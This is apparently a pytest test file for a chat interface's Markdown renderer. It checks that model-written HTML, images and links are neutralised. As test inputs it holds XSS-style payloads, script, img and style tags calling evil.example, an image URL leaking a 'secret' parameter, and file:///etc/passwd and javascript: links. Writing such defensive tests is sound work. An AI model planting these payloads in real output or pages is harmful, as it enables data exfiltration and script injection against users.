"""What a model writes can look good, and can do nothing."""

from __future__ import annotations

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtGui import QTextDocument

from studio.ui.chat.documents import Documents, SafeDocument, Style
from studio.ui.chat.markdown import NESTING, Markdown
from studio.ui.theme import Theme


@pytest.fixture
def markdown(theme: Theme) -> Markdown:
    return Markdown(theme)


def test_code_can_be_copied_as_it_was_written(markdown: Markdown) -> None:
    rendered = markdown.render("Look:\n\n```python\ndef f():\n    return 1\n```\n\nand\n\n```\nplain <b>\n```")
    assert rendered.code == ("def f():\n    return 1", "plain <b>")
    assert rendered.languages == ("python", "")
    assert 'href="copy:1"' in rendered.html
    assert "plain &lt;b&gt;" in rendered.html


@pytest.mark.parametrize(
    "hostile",
    [
        "<img src='https://evil.example/x.png'>",
        "<script>alert(1)</script>",
        "<a href='file:///etc/passwd'>x</a>",
        "<table background='http://evil.example/x'>",
        "text <style>p { background: url(http://evil.example) }</style>",
    ],
)
def test_markup_of_the_author_is_shown_as_text(markdown: Markdown, hostile: str) -> None:
    html = markdown.render(hostile).html
    for tag in ("<img", "<script", "<a href", "<table", "<style"):
        assert tag not in html
    assert "&lt;" in html


def test_a_picture_is_named_but_never_asked_for(markdown: Markdown) -> None:
    html = markdown.render("![the chart](https://evil.example/?secret=1)").html
    assert "[picture not loaded: the chart]" in html
    assert "evil.example" not in html


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "/etc/passwd", "vnc:x"]
)
def test_only_addresses_of_the_web_and_of_the_workspace_are_links(markdown: Markdown, address: str) -> None:
    assert "href" not in markdown.render(f"[click]({address})").html


def test_a_relative_link_means_a_file_of_the_workspace(markdown: Markdown) -> None:
    assert 'href="file-here:src/cart.py"' in markdown.render("[cart](src/cart.py)").html


def test_hidden_characters_in_code_are_written_out(markdown: Markdown) -> None:
    assert "x\\u202ey" in markdown.render("`x\u202ey`").html
    assert "x\\u202ey" in markdown.render("```\nx\u202ey\n```").html


def test_deep_nesting_and_an_unclosed_fence_end_well(markdown: Markdown) -> None:
    assert markdown.render("> " * 500 + "deep").html.count("<blockquote>") <= NESTING
    assert markdown.render("```python\nprint(").code == ("print(",)


def test_a_document_loads_nothing(theme: Theme) -> None:
    document = Documents(theme).get(Style.MARKDOWN, "hello", 300)
    assert isinstance(document, SafeDocument)
    document.setHtml("<img src='/etc/hostname'><img src='http://127.0.0.1:9/x.png'>")
    for address in ("/etc/hostname", "http://127.0.0.1:9/x.png"):
        assert document.resource(QTextDocument.ResourceType.ImageResource.value, QUrl(address)) is None


def test_heights_grow_as_the_width_shrinks(theme: Theme) -> None:
    documents = Documents(theme)
    text = "many words " * 60
    assert documents.height(Style.MARKDOWN, text, 200) > documents.height(Style.MARKDOWN, text, 800) > 0
